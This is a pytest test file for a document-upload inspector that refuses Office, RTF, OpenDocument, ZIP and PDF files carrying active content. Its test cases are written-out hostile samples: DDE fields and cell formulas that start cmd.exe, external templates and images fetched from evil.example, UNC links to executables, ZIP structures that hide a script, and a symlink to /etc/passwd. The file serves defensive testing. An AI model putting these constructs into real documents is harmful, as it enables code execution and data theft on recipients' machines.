"""What acts, fetches or starts on an officer's machine is refused however it is written; the rest is taken."""

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from dvctt.documents.inspect import files
from dvctt.documents.inspect.findings import Bad, Limits
from tests.documents.files import ALL, archive, docx
from tests.documents.files import pdf as made_pdf

LIST_HEAD = b"PK\x01\x02"
RELATIONS = "word/_rels/settings.xml.rels"
TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
LINK = TEMPLATE.replace("attachedTemplate", "hyperlink")
OUTSIDE = f'<Relationship Id="r" Type="{TEMPLATE}" Target="https://evil.example/a.dotm" TargetMode="External"/>'
XLSX_TYPES = (
    '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'spreadsheetml.sheet.main+xml"/>{}</Types>'
)


def verdict(data: bytes, name: str) -> str:
    """The type of a file that is taken, or the code of its refusal."""
    try:
        return files.judge(data, name, ALL, Limits()).type
    except Bad as bad:
        return bad.code


def related(relation: str, part: str = RELATIONS, encoding: str = "utf-8", head: str = "") -> bytes:
    return docx({part: f"{head}<Relationships>{relation}</Relationships>".encode(encoding)})


def xlsx(more: dict[str, bytes] | None = None, types: str = "") -> bytes:
    parts = {"[Content_Types].xml": XLSX_TYPES.format(types).encode(), "xl/workbook.xml": b"<workbook/>"}
    return archive({**parts, **(more or {})})


@pytest.mark.parametrize(
    "data",
    [
        related(OUTSIDE),
        related(OUTSIDE.replace('"External"', "'External'")),
        related(OUTSIDE.replace("TargetMode=", "TargetMode\n=\n")),
        related(OUTSIDE.replace('"External"', '" external "')),
        related(OUTSIDE.replace("External", "Ext&#101;rnal")),
        related(OUTSIDE, encoding="utf-16", head='<?xml version="1.0" encoding="UTF-16"?>'),
        related(OUTSIDE.replace("<Relationship ", "<p:Relationship ")),
        related(OUTSIDE, "word/_rels/settings.xml.RELS"),
        related(OUTSIDE.replace("a.dotm", "/hyperlink")),
        related(OUTSIDE.replace(' TargetMode="External"', "")),
        related(OUTSIDE.replace("Target=", 'x="&gt;" Target=')),
        related(OUTSIDE.replace(TEMPLATE, LINK.replace("hyperlink", "oleObject"))),
        related(OUTSIDE.replace(TEMPLATE, LINK.replace("hyperlink", "frame"))),
        related(f'<Relationship Type="{LINK[:-9]}control" Target="activeX/activeX1.xml"/>'),
        related(f'<Relationship Type="{LINK[:-9]}aFChunk" Target="a.dat"/>'),
    ],
    ids=["plain", "single quotes", "new lines", "case and blanks", "character reference", "UTF-16", "prefix",
         "name in capitals", "hyperlink in the target", "not said to be outside", "a sign before", "object",
         "frame", "control", "foreign chunk"],
)  # fmt: skip
def test_what_word_would_fetch_or_start_is_refused_however_it_is_written(data: bytes) -> None:
    assert verdict(data, "a.docx") == "active_content"


@pytest.mark.parametrize(
    "relation",
    [
        OUTSIDE.replace(TEMPLATE, LINK),
        f'<Relationship Type="{LINK}" Target="mailto:a@b.example" TargetMode="External"/>',
        f'<Relationship Type="{LINK[:-9]}image" Target="media/image1.png"/>',
        f'<Relationship Type="{LINK[:-9]}image" Target="C:\\Ảnh\\a.png" TargetMode="External"/>',
    ],
)
def test_links_and_pictures_do_no_harm(relation: str) -> None:
    assert verdict(related(relation), "a.docx") == "docx"


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "latin-1"])
@pytest.mark.parametrize("part", ["word/settings.xml", "word/settings.XML", "word/drawing.vml", "docProps/app.xml"])
def test_a_document_type_is_refused_in_any_encoding(part: str, encoding: str) -> None:
    text = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE a [<!ENTITY b "b">]><a>&b;</a>'
    assert verdict(docx({part: text.encode(encoding)}), "a.docx") == "active_content"


def test_a_part_that_is_no_xml_is_a_broken_file() -> None:
    assert verdict(docx({"word/settings.xml": b"<a><b></a>"}), "a.docx") == "broken_archive"
    assert (
        verdict(docx({"word/settings.xml": b'<?xml version="1.0" encoding="no-such"?><a/>'}), "a.docx")
        == "broken_archive"
    )


def nested(before: str, inner: str, after: str) -> bytes:
    """A field within another."""
    begin, end = (f'<w:fldChar w:fldCharType="{mark}"/>' for mark in ("begin", "end"))
    outer, within, rest = (f"<w:instrText>{said}</w:instrText>" for said in (before, inner, after))
    return docx({"word/a.xml": f"<w:p>{begin}{outer}{begin}{within}{end}{rest}{end}</w:p>".encode()})


def field(*runs: str) -> bytes:
    said = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in runs)
    ends = '<w:fldChar w:fldCharType="{}"/>'
    return docx(
        {"word/header1.xml": f"<w:p>{ends.format('begin')}{said}{ends.format('separate')}<w:t>DDE</w:t></w:p>".encode()}
    )


@pytest.mark.parametrize(
    ("data", "fine"),
    [
        (field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '), False),
        (field("DD", "E", "AUTO ", "cmd"), False),
        (field("<x/>DDE cmd a"), False),
        (field(" dde excel a"), False),
        (docx({"word/a.xml": b'<w:fldSimple w:instr=" DDE cmd a"/>'}), False),
        (nested(' IF "1"="1" ', ' DDEAUTO cmd "/k calc" ', ""), False),
        (nested(" IF ", " PAGE ", ' ="1" "a" "b"'), True),
        (field(' INCLUDEPICTURE "https://a.example/a.png" '), False),
        (field(' INCLUDETEXT "\\\\\\\\server\\\\a.docx" '), False),
        (field(' INCLUDEPICTURE "media/a.png" '), True),
        (field(" PAGE "), True),
        (field(" HYPERLINK ", '"https://a.example/DDE cmd"'), True),
        (field(' HYPERLINK \\l "mục_1" '), True),
        (field(' HYPERLINK "search-ms:query=a" '), False),
        (field(' HYPERLINK "\\\\\\\\evil\\\\x.exe" '), False),
        (field(" HYPERLINK ms-word:ofe|u|https://evil.example "), False),
        (nested(' INCLUDEPICTURE "', " QUOTE 104 116 ", '" '), False),
        (nested(' HYPERLINK "', " QUOTE 104 ", '" '), False),
        (nested(' HYPERLINK "https://a.example/', " MERGEFIELD a ", '" '), True),
        (docx({"word/a.xml": "<w:t>DDE là gì?</w:t>".encode()}), True),
    ],
)
def test_a_field_that_starts_a_program_is_refused(data: bytes, *, fine: bool) -> None:
    assert verdict(data, "a.docx") == ("docx" if fine else "active_content")


def cell(formula: str) -> dict[str, bytes]:
    return {"xl/worksheets/sheet1.xml": f"<worksheet><c><f>{formula}</f></c></worksheet>".encode()}


@pytest.mark.parametrize(
    ("data", "fine"),
    [
        (
            xlsx({"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'}),
            False,
        ),
        (xlsx(cell("cmd|' /C calc'!A0")), False),
        (xlsx(cell("1+'cmd'|'/c calc'!A1")), False),
        (xlsx(cell("<x/>cmd|'/c calc'<y>!</y>A1")), False),
        (xlsx(cell("_xlfn.WEBSERVICE(&quot;https://a.example&quot;)")), False),
        (xlsx({"xl/workbook.xml": b"<workbook><definedName name='a'>cmd|'/c x'!A1</definedName></workbook>"}), False),
        (xlsx(cell("LEN('a&quot;'!A1)&amp;WEBSERVICE(B1)&amp;LEN('b&quot;'!A1)")), False),
        (xlsx(cell("LEN('a&quot;'!A1)&amp;cmd|'/c calc'!A1&amp;LEN('b&quot;'!A1)")), False),
        (
            xlsx(
                {
                    "xl/connections.xml": b'<connections><connection><webPr url="https://a.example"/></connection></connections>'
                }
            ),
            False,
        ),
        (xlsx(cell("SUM(A1:A9)+'Bảng A|B'!A1")), True),
        (xlsx(cell("'Ông A''s'!A1&amp;&quot;'&quot;")), True),
        (xlsx(cell("&quot;a|'b'!c&quot;&amp;B1")), True),
        (xlsx(cell("MYCALL(1)")), True),
        (xlsx(cell("HYPERLINK(&quot;https://a.example&quot;,&quot;a&quot;)")), True),
        (xlsx(cell("HYPERLINK(&quot;#Sheet1!A1&quot;)")), True),
        (xlsx(cell("HYPERLINK(&quot;search-ms:query=a&quot;,&quot;a&quot;)")), False),
        (xlsx(cell("1+hyperlink( &quot;\\\\evil\\x.exe&quot;)")), False),
    ],
)
def test_a_cell_that_starts_a_program_or_fetches_is_refused(data: bytes, *, fine: bool) -> None:
    assert verdict(data, "a.xlsx") == ("xlsx" if fine else "active_content")


@pytest.mark.parametrize("mark", ["application/vnd.ms-excel.macrosheet+xml", "application/vnd.ms-office.activeX+xml"])
def test_macro_sheets_and_controls_are_macros(mark: str) -> None:
    assert verdict(xlsx(types=f'<Override PartName="/xl/a.xml" ContentType="{mark}"/>'), "a.xlsx") == "wrong_type"


@pytest.mark.parametrize(
    "name",
    ["a.cpl", "a.msc", "a.chm", "a.iso", "a.xll", "a.url", "evil.exe.", "evil.exe ..", "evil.exe::$DATA", "a.lnk",
     "thư mục/a.settingcontent-ms", "a.html", "trang.mht", "A.PS1", "a.application", "a.iqy", "a.rdp", "sơ đồ.svg"],
)  # fmt: skip
def test_what_a_double_click_would_start_is_refused_in_an_archive(name: str) -> None:
    assert verdict(archive({name: b"x"}), "a.zip") == "active_content"


@pytest.mark.parametrize("name", ["Bản vẽ.dwg", "a.txt", "số 12.2024", "exe", "bản đồ.img", "giấy phép.exe.pdf"])
def test_what_it_would_only_open_is_taken(name: str) -> None:
    assert verdict(archive({name: b"%PDF-1.7" if name.endswith(".pdf") else b"x"}), "a.zip") == "zip"


def test_what_another_program_would_unpack_is_judged_too() -> None:
    """One that reads heads from the first byte on, or takes the name that a field beside the usual one says."""
    script, letter = archive({"thu.js": b"new ActiveXObject()"}), archive({"giay.txt": "xin chào".encode()})
    heads = script[: script.find(LIST_HEAD)]
    assert verdict(letter, "a.zip") == "zip"
    assert verdict(script + letter, "a.zip") == "broken_archive"
    assert verdict(heads + letter, "a.zip") == "broken_archive"
    assert verdict(heads + moved(letter, len(heads)), "a.zip") == "broken_archive"
    middle = letter.find(LIST_HEAD)
    assert verdict(letter[:middle] + heads + moved(letter, 0, len(heads))[middle:], "a.zip") == "broken_archive"
    assert verdict(letter[:middle] + b"\0" * 20 + moved(letter, 0, 20)[middle:], "a.zip") == "zip"
    for name, code in (("giay.js", "active_content"), ("giấy phép.txt", "zip"), ("../giay.txt", "unsafe_archive")):
        assert verdict(archive({two_names("giay.txt", name): b"x"}), "a.zip") == code, name


PACKED = pytest.mark.parametrize("way", [zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])


@PACKED
@pytest.mark.parametrize("streamed", [False, True])
def test_an_archive_is_taken_however_it_was_packed(way: int, *, streamed: bool) -> None:
    room = Unseekable() if streamed else io.BytesIO()
    with zipfile.ZipFile(room, "w", way) as archive:
        for name, content in (("a.txt", "xin chào".encode() * 5000), ("rỗng.txt", b"")):
            archive.writestr(name, content)
        archive.mkdir("thư mục")
    assert verdict(room.getvalue(), "a.zip") == "zip"


class Unseekable(io.BytesIO):
    """A pipe: the sizes of an entry stand behind it."""

    def seekable(self) -> bool:
        return False

    def seek(self, *_place: int) -> int:
        raise OSError("a pipe")


@PACKED
@pytest.mark.parametrize("honest_head", [False, True])
@pytest.mark.parametrize("streamed", [False, True])
def test_what_stands_within_an_entry_behind_its_end_is_refused(way: int, *, honest_head: bool, streamed: bool) -> None:
    """Who goes by what is packed finds another head there; the list says that it belongs to the entry."""
    script = archive({"thu.js": b"new ActiveXObject()"})
    hidden = script[: script.find(LIST_HEAD)]
    room = Unseekable() if streamed else io.BytesIO()
    with zipfile.ZipFile(room, "w", way) as made:
        made.writestr("giay.txt", "xin chào".encode() * 500)
        size = made.infolist()[0].compress_size
    plain, listed = room.getvalue(), room.getvalue().find(LIST_HEAD)
    assert verdict(plain, "a.zip") == "zip"
    body = plain.find(b"giay.txt") + len("giay.txt") + size
    longer = bytearray(plain[:body] + hidden + moved(plain, 0, len(hidden))[body:])
    if not honest_head and not streamed:
        struct.pack_into("<I", longer, 18, size + len(hidden))
    struct.pack_into("<I", longer, listed + len(hidden) + 20, size + len(hidden))
    assert verdict(bytes(longer), "a.zip") == "broken_archive"


def head_of(name: bytes, data: bytes, flags: int = 0) -> bytes:
    size = 0 if flags else len(data)
    told = (0 if flags else zlib.crc32(data), size, size, len(name), 0)
    return struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, flags, 0, 0, 0x5821, *told) + name + data


def listed(name: bytes, data: bytes, at: int, flags: int = 0) -> bytes:
    told = (zlib.crc32(data), len(data), len(data), len(name), 0, 0, 0, 0, 0, at)
    return struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, flags, 0, 0, 0x5821, *told) + name


def end_of(size: int, at: int, comment: bytes = b"", entries: int = 1) -> bytes:
    return struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, entries, entries, size, at, len(comment)) + comment


def wide_end_of(size: int, at: int, place: int) -> bytes:
    record = struct.pack("<4sQHHIIQQQQ", b"PK\6\6", 44, 45, 45, 0, 0, 1, 1, size, at)
    return record + struct.pack("<4sIQI", b"PK\6\7", 0, place, 1)


SCRIPT, NOTE = (b"thu.js", b"new ActiveXObject()"), (b"giay.txt", b"xin")
ALL_WIDE = b"PK\5\6" + bytes(4) + b"\xff" * 12 + bytes(2)


def two_wide_lists() -> bytes:
    """The place of the record of large files leads into an entry; Python takes the record that stands before it."""
    begin = 30 + len(b"giay.txt")
    hidden = head_of(*SCRIPT)
    told = listed(*SCRIPT, begin)
    at = begin + len(hidden) + len(told)
    inner = hidden + told + wide_end_of(len(told), begin + len(hidden), at)[:56]
    outer, list_ = head_of(b"giay.txt", inner), listed(b"giay.txt", inner, 0)
    return outer + list_ + wide_end_of(len(list_), len(outer), at) + ALL_WIDE


def two_ends() -> bytes:
    """The comment of the first end reaches to the end of the file, and holds another list and end."""
    note, script = head_of(*NOTE), head_of(*SCRIPT)
    begun = note + script
    first, second = listed(*SCRIPT, len(note)), listed(*NOTE, 0)
    place = len(begun) + len(first) + 22
    return begun + first + end_of(len(first), len(begun), second + end_of(len(second), place))


def wide() -> bytes:
    outer, list_ = head_of(*NOTE), listed(*NOTE, 0)
    return outer + list_ + wide_end_of(len(list_), len(outer), len(outer) + len(list_)) + ALL_WIDE


def streamed_whole(inner: bytes) -> bytes:
    """A stored entry whose size stands behind it."""
    behind = b"PK\7\x08" + struct.pack("<III", zlib.crc32(inner), len(inner), len(inner))
    outer, list_ = head_of(b"giay.txt", inner, 8) + behind, listed(b"giay.txt", inner, 0, 8)
    return outer + list_ + end_of(len(list_), len(outer))


def plain(comment: bytes = b"", behind: bytes = b"", entries: int = 1, name: bytes = b"giay.txt") -> bytes:
    outer, list_ = head_of(name, b"xin"), listed(name, b"xin", 0)
    return outer + list_ + end_of(len(list_), len(outer), comment, entries) + behind


def endless() -> bytes:
    """An entry that says to be longer than any file."""
    data = bytearray(archive({"a.txt": b"a" * 100}))
    extra = struct.pack("<HHQQ", 1, 16, 100, 10**15)
    at = data.find(LIST_HEAD)
    named = data[at + 46 : at + 51]
    head = bytes(data[at : at + 46])
    head = head[:20] + b"\xff" * 8 + head[28:30] + struct.pack("<H", len(extra)) + head[32:]
    list_ = head + bytes(named) + extra
    return bytes(data[:at]) + list_ + end_of(len(list_), at)


RICH = [
    b'{\\*\\fldinst {\\rtlch\\fcs1 \\af0}{\\ltrch DDEAUTO cmd "/k calc"}}',
    b'{\\*\\fldinst {\\b IN}{\\b CLUDEPICTURE "http://evil.example/a.png"}}',
    b"{\\*\\fldinst DD\\b E\\b0 AUTO cmd}",
    b"{\\*\\fldinst \\u68?DE\\u65?UTO cmd}",
    b"{\\*\\fldinst DD\r\nEAUTO cmd}",
    b"{\\*\\template \\u104?ttps\\u58?\\u47?\\u47?evil.example/a}",
    b"{\\*\\template {http}{:}{/}{/evil.example/a}}",
    b"{\\*\\template ht\r\ntp\r\n:/\r\n/evil.example/a}",
    b"{\\*\\objdata0 0105}",
    b"{\\object\\objupdate}",
    b'{\\*\\fldinst HYPERLINK "\\\\\\\\evil\\\\x.exe"}',
    b'{\\*\\fldinst INCLUDETEXT "{\\*\\fldinst QUOTE 104}"}',
    b"\\bin9 {\\*\\xx}}}{\\*\\fldinst DDE cmd}",
    b"{\\*\\fldinst DDEAUTO cmd",
]


@pytest.mark.parametrize("written", RICH)
@pytest.mark.parametrize("begun", [b"{\\rtf1 ", b"{\\rt "])
def test_what_a_rich_text_starts_is_found_in_pieces_and_numbers(written: bytes, begun: bytes) -> None:
    assert verdict(archive({"a.rtf": begun + written + b"}"}), "a.zip") == "active_content"


@pytest.mark.parametrize(
    "written",
    [
        b"{\\field{\\*\\fldinst PAGE}{\\fldrslt 1}}",
        b"DDEAUTO l\\'e0 g\\'ec?",
        b'{\\field{\\*\\fldinst HYPERLINK "https://vanban.chinhphu.vn"}}',
        b"{\\*\\template C:\\\\a.dotm}",
        b"{\\pict\\bin5 DDE}{}",
        b'{\\field{\\*\\fldinst TOC \\\\o "1-3" {\\*\\fldinst PAGEREF a}}}',
    ],
)
def test_a_rich_text_that_only_says_so_is_taken(written: bytes) -> None:
    assert verdict(archive({"a.rtf": b"{\\rtf1 " + written + b"}"}), "a.zip") == "zip"


OFFICE_XML: dict[str, tuple[str, bytes]] = {
    "text of another machine": ("xl/connections.xml", b"<a><x:textPr xmlns:x='x' sourceFile='a'/></a>"),
    "connection by a file": ("xl/connections.xml", b"<a><connection odcFile='http://evil.example'/></a>"),
    "painted": ("xl/drawings/a.xml", b"<a><v:imagedata xmlns:v='v' src='//evil.example/a.png'/></a>"),
    "filled": ("xl/drawings/a.vml", b'<xml><v:fill src="https://evil.example/a.png"><br></xml>'),
}


@pytest.mark.parametrize("way", OFFICE_XML)
def test_what_a_workbook_brings_in_is_refused(way: str) -> None:
    part, content = OFFICE_XML[way]
    assert verdict(xlsx({part: content}), "a.xlsx") == "active_content"


OPEN = {
    "formula": b"<a xmlns:t='t'><t:cell t:formula=\"of:=DDE('soffice';'a';'b')\"/></a>",
    "fetching formula": b"<a xmlns:t='t'><t:cell t:formula='of:=WEBSERVICE(A1)'/></a>",
    "source": b"<a xmlns:o='o'><o:dde-source o:automatic-update='true'/></a>",
    "picture": b"<a xmlns:d='d' xmlns:x='x'><d:image x:href='//evil/a.png'/></a>",
    "listener": b"<a xmlns:s='s' xmlns:x='x'><s:event-listener x:href='vnd.sun.star.script:a'/></a>",
    "link": b"<a xmlns:t='t' xmlns:x='x'><t:a x:href='search-ms:a'/></a>",
}


@pytest.mark.parametrize("way", OPEN)
def test_what_an_open_document_starts_or_fetches_is_refused(way: str) -> None:
    harmless = b"<a xmlns:d='d' xmlns:x='x'><d:image x:href='Pictures/a.png'/><d:a x:href='https://a.example'/></a>"
    for content, code in ((OPEN[way], "active_content"), (harmless, "zip")):
        assert verdict(archive({"a.ods": archive({"mimetype": b"x", "content.xml": content})}), "a.zip") == code
        assert verdict(archive({"a.fods": content}), "a.zip") == code


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (plain(), "zip"), (wide(), "zip"), (plain(comment=b"xin"), "zip"), (plain(behind=b"\0" * 30), "zip"),
        (streamed_whole(b"xin"), "zip"), (two_wide_lists(), "broken_archive"), (two_ends(), "broken_archive"),
        (streamed_whole(b"xin" + head_of(*SCRIPT)), "broken_archive"), (plain(entries=2), "broken_archive"),
        (plain(behind=head_of(*SCRIPT)), "broken_archive"), (plain(comment=listed(*SCRIPT, 0)), "broken_archive"),
        (plain(name=b"thu.exe/"), "broken_archive"), (endless(), "broken_archive"),
    ],
    ids=["plain", "large", "comment", "zeros behind", "streamed", "two wide lists", "two ends",
         "head in a streamed one", "one entry too few", "head behind the end", "list in the comment",
         "folder with content", "endless"],
)  # fmt: skip
def test_an_archive_has_one_list_and_one_end(data: bytes, code: str) -> None:
    assert verdict(data, "a.zip") == code


def moved(data: bytes, by: int, list_by: int | None = None) -> bytes:
    """An archive of one entry whose offsets say that so many bytes stand before it, and before its list."""
    found = bytearray(data)
    for at, more in (
        (data.find(LIST_HEAD) + 42, by),
        (data.find(b"PK\x05\x06") + 16, by if list_by is None else list_by),
    ):
        struct.pack_into("<I", found, at, struct.unpack_from("<I", data, at)[0] + more)
    return bytes(found)


def two_names(name: str, unicode: str) -> zipfile.ZipInfo:
    """An entry with a second name, as Info-ZIP writes those that the first cannot."""
    entry, told = zipfile.ZipInfo(name), unicode.encode()
    entry.extra = struct.pack("<HHBI", 0x7075, 5 + len(told), 1, zlib.crc32(name.encode())) + told
    return entry


@pytest.mark.parametrize("ending", ["xml", "dat", "XML"])
def test_a_part_is_judged_by_what_the_file_declares_it_to_be(ending: str) -> None:
    sheet = f"xl/worksheets/sheet1.{ending}"
    declared = (
        f'<Override PartName="/{sheet}" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
        'worksheet+xml"/>'
    )
    formulas = (b"cmd|'/c calc'!A0", b"SUM(A1:A2)")
    for formula, code in zip(formulas, ("active_content", "xlsx"), strict=True):
        data = xlsx({sheet: b"<worksheet><c><f>%s</f></c></worksheet>" % formula}, declared)
        assert verdict(data, "a.xlsx") == code
        assert verdict(archive({"a.xlsx": data}), "a.zip") == code.replace("xlsx", "zip")


OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        ("a.doc", OLD, "zip"), ("a.doc", OLD + "_VBA_PROJECT".encode("utf-16-le"), "active_content"),
        ("a.rtf", b"{\\rtf1{\\*\\template C:\\\\a.dotm}}", "zip"),
        ("a.rtf", b"{\\rtf1{\\*\\template https://evil.example/a.dotm}}", "active_content"),
        ("a.rtf", b"{\\rtf1{\\*\\template \\\\\\\\evil\\\\a.dotm}}", "active_content"),
        ("a.rtf", b"{\\rtf1{\\*\\template \\'5c\\'5cevil\\\\a.dotm}}", "active_content"),
        ("a.rtf", b"{\\rtf1{\\*\\template \\'68ttps://evil.example/a}}", "active_content"),
        ("a.rtf", b'{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "https://evil.example/a.png"}}}', "active_content"),
        ("a.rtf", b"{\\rtf1 xin ch\\'e0o}", "zip"), ("a.rtf", b"{\\rtf1{\\object\\objdata 0105}}", "active_content"),
        ("a.7z", b"7z\xbc\xaf\x27\x1c" + bytes(50), "unsupported_archive"),
        ("a.rar", b"Rar!\x1a\x07\x01" + bytes(50), "unsupported_archive"),
        ("a.ods", archive({"mimetype": b"x", "content.xml": b"<a/>"}), "zip"),
        ("a.ods", archive({"mimetype": b"x", "Basic/Standard/M.xml": b"<a/>"}), "active_content"),
        ("thu.js\u202e", b"x", "active_content"), ("thu.exe\u200b", b"x", "active_content"),
        ("thu.py", b"x", "active_content"), ("thu.inetloc", b"x", "active_content"),
    ],
)  # fmt: skip
def test_what_lies_in_an_archive_is_looked_at(name: str, data: bytes, code: str) -> None:
    assert verdict(archive({name: data}), "a.zip") == code


def test_names_of_parts_are_compared_without_their_case() -> None:
    types = XLSX_TYPES.format('<Override PartName="/a" ContentType="application/vnd.ms-office.vbaProject"/>')
    inner = archive({"[content_types].xml": types.encode(), "xl/workbook.xml": b"<workbook/>"})
    assert verdict(inner, "a.xlsx") == "wrong_type"
    assert verdict(archive({"phụ lục.xlsx": inner}), "a.zip") == "wrong_type"
    drawn = xlsx({"xl/media/image1.svg": b"<svg/>"})
    assert verdict(drawn, "a.xlsx") == "xlsx"


def test_a_symbolic_link_leads_out_of_the_archive() -> None:
    room = io.BytesIO()
    with zipfile.ZipFile(room, "w") as made:
        link = zipfile.ZipInfo("a.txt")
        link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
        made.writestr(link, "/etc/passwd")
        made.writestr("b.txt", "b")
    assert verdict(room.getvalue(), "a.zip") == "unsafe_archive"


def with_root(**keys: Any) -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        for key, value in keys.items():
            made.Root[f"/{key}"] = made.make_indirect(value)

    return made_pdf(change=change)


def with_link(**action: Any) -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=Dictionary(**action))
        made.pages[0].Annots = Array([made.make_indirect(note)])

    return made_pdf(change=change)


WEB = {"S": Name.URI, "URI": String("https://a.example")}


@pytest.mark.parametrize(
    "data",
    [
        with_root(OpenAction=Dictionary(**WEB)),
        with_root(OpenAction=Dictionary(S=Name.GoToR, F=String("b.pdf"))),
        with_root(OpenAction=Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Dictionary(**WEB))),
        with_root(AA=Dictionary(WC=Dictionary(**WEB))),
        with_link(S=Name.SubmitForm, F=String("https://a.example")),
        with_link(S=Name.GoToR, F=String("\\\\server\\share\\a.pdf")),
        with_link(S=Name.GoToR, F=Dictionary(Type=Name.Filespec, UF=String("//server/a.pdf"))),
        with_link(S=Name.GoToR, F=Dictionary(Type=Name.Filespec, FS=Name.URL, F=String("a.example/b.pdf"))),
        with_link(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("a"))),
    ],
    ids=["opens an address", "opens a file", "goes on to an address", "on closing", "sends the form", "share",
         "share in a specification", "address of a file", "opens an attachment"],
)  # fmt: skip
def test_a_pdf_that_leads_elsewhere_by_itself_is_refused(data: bytes) -> None:
    assert verdict(data, "a.pdf") == "active_content"


@pytest.mark.parametrize(
    "data",
    [
        with_link(**WEB),
        with_link(S=Name.GoToR, F=String("phụ lục.pdf")),
        with_root(OpenAction=Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]))),
        with_root(OpenAction=Array([0, Name.Fit])),
        with_root(AA=Dictionary(WC=Dictionary(S=Name.Named, N=Name.FirstPage))),
    ],
    ids=["link", "link to a file beside", "goes to a page", "a place", "turns a page"],
)
def test_a_pdf_that_only_links_is_taken(data: bytes) -> None:
    assert verdict(data, "a.pdf") == "pdf"


def attached(name: str) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        made.attachments[name] = b"<script>1</script>"

    return change


def test_a_web_page_attached_to_a_pdf_is_refused() -> None:
    assert verdict(made_pdf(change=attached("a.html")), "a.pdf") == "active_content"
    assert verdict(made_pdf(change=attached("a.txt")), "a.pdf") == "pdf"
